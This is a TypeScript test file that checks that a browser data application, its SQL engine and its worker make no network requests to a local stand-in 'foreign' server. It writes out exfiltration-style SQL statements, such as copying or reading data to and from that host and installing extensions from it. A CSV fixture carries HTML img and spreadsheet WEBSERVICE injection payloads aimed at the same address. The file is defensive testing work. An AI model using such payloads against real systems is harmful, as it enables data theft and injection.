import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, beforeEach, describe, expect, inject, it } from 'vitest'
import { engineWorker, openPage } from './open-page.ts'

let connections = 0
const foreign = createServer((_, response) => {
  response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/csv' }).end('a\n1\n')
})
foreign.on('connection', () => { connections++ })
const foreignAddress = (): string => `http://127.0.0.1:${String((foreign.address() as AddressInfo).port)}/a.csv`

beforeAll(() => new Promise<void>(resolve => { foreign.listen(0, '127.0.0.1', resolve) }))
beforeEach(() => { connections = 0 })
afterAll(() => { foreign.close() })

describe('a foreign host', () => {
  it('would notice a connection', async () => {
    expect((await fetch(foreignAddress())).status).toBe(200)
    expect(connections).toBe(1)
  })

  it.each(['siteAddress', 'probeAddress'] as const)('hears nothing from the page itself (%s)', async address => {
    await using site = await openPage(inject(address))
    const outcomes = await site.page.evaluate(async foreign => {
      const ended = (target: EventTarget): Promise<string> => new Promise(resolve => {
        for (const type of ['load', 'open', 'error']) target.addEventListener(type, () => { resolve(type) })
      })
      const image = new Image()
      image.src = foreign
      const scripts = ['text/javascript', 'module'].map(type => {
        const script = Object.assign(document.createElement('script'), { type, src: foreign })
        document.head.append(script)
        return script
      })
      navigator.sendBeacon(foreign, 'a')
      const request = fetch(foreign).then(() => 'load', () => 'error')
      const events = new EventSource(foreign)
      const socket = new WebSocket(foreign.replace('http', 'ws'))
      return Promise.all([request, ...[image, ...scripts, events, socket].map(ended)])
    }, foreignAddress())
    expect(outcomes).toEqual(outcomes.map(() => 'error'))
    await expect.poll(() => site.faults.filter(fault => fault.startsWith('policy:')).length)
      .toBeGreaterThanOrEqual(outcomes.length)
    expect(connections).toBe(0)
  })

  it('hears nothing from the engine', async () => {
    await using probe = await openPage(inject('probeAddress'))
    const statements = [
      `select * from read_csv('${foreignAddress()}')`,
      `select * from '${foreignAddress()}'`,
      `create table stolen as select * from read_text('${foreignAddress()}')`,
      `copy (select 1) to '${foreignAddress()}'`,
      `attach '${foreignAddress()}' as remote`,
      `install parquet from '${foreignAddress()}'; load parquet`,
      `load '${foreignAddress()}'`,
      "select * from 'in/a.parquet'",
      "set custom_extension_repository = 'http://127.0.0.1'",
    ]
    const outcomes = await probe.page.evaluate(async statements => {
      const engine = await window.engine
      return Promise.all(statements.map(sql => engine.query(sql).then(() => `${sql}: worked`, () => 'refused')))
    }, statements)
    expect(outcomes).toEqual(statements.map(() => 'refused'))
    expect(connections).toBe(0)
    expect(probe.faults).toEqual([])
  })

  it('hears nothing from the worker, even if its code were turned against us', async () => {
    await using probe = await openPage(inject('probeAddress'))
    await probe.page.evaluate(async () => { await window.engine })
    const outcomes = await (await engineWorker(probe.page)).evaluate(async foreign => {
      const script = (): string => {
        try {
          (self as unknown as { importScripts: (address: string) => void }).importScripts(foreign)
          return 'loaded'
        } catch {
          return 'refused'
        }
      }
      const request = await fetch(foreign).then(() => 'loaded', () => 'refused')
      const synchronous = new XMLHttpRequest()
      synchronous.open('GET', foreign, false)
      try {
        synchronous.send()
      } catch {
        return [script(), request, 'refused']
      }
      return [script(), request, 'loaded']
    }, foreignAddress())
    expect(outcomes).toEqual(['refused', 'refused', 'refused'])
    expect(connections).toBe(0)
  })

  it('hears nothing while a file is imported that is full of its address', async () => {
    await using site = await openPage(inject('siteAddress'))
    const bait = (kind: string): string => `"<img src=${foreignAddress()}?${kind}> =WEBSERVICE(""${foreignAddress()}"")"`
    const lines = Array.from({ length: 40 }, (_, index) => [
      `N${index}`, `C${index % 7}`, bait(`customer-${index % 7}`), bait(`segment-${index % 3}`), '2024-03-14', '2024-04-28', '', 'EUR', `${index + 1}.50`,
    ].join(','))
    const header = 'Invoice number,Customer number,Customer name,Segment,Invoice date,Due date,Payment date,Currency,Amount'
    const content = Buffer.from([header, ...lines, ''].join('\n'))
    const file = { name: `${foreignAddress().replaceAll('/', '_')}.csv`, mimeType: 'text/csv', buffer: content }
    await site.page.locator('input[type=file]').first().setInputFiles(file)
    await site.page.locator('[data-ledger=loaded] [data-view][data-state=ready]')
      .getByText('<img src=').first().waitFor({ state: 'attached' })
    expect(connections).toBe(0)
    expect(site.faults).toEqual([])
  })
})
